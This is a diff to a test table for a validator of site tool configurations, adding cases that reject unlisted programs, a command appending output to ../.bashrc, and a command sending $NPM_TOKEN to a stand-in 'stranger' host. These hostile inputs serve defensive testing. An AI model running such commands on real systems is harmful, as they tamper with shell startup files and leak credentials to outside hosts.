@@ -156,6 +156,30 @@ test.each([
     /“bash” is not a program of this tool/,
   ],
   [
+    'a program that the owner does not list',
+    () => changed(tool, 'programs: [acme]', 'programs: [acme, rimraf]'),
+    tool,
+    /“rimraf” is not a program that the owner of the site lists/,
+  ],
+  [
+    'a program where the owner lists none',
+    () => changed('site.yaml', 'programs: [acme]', 'name: Acme'),
+    tool,
+    /“acme” is not a program that the owner of the site lists/,
+  ],
+  [
+    'a command that adds to a file',
+    () => changed(entry, 'acme login', 'acme login >> ../.bashrc'),
+    entry,
+    /output is added to/,
+  ],
+  [
+    'a command that gives a secret to a stranger',
+    () => changed(entry, 'acme login', `acme login --server ${stranger} $NPM_TOKEN`),
+    entry,
+    /is not a host/,
+  ],
+  [
     'a program of which everything reads',
     () => changed(tool, "reads: ['acme whoami',", "reads: ['acme', 'acme whoami',"),
     tool,
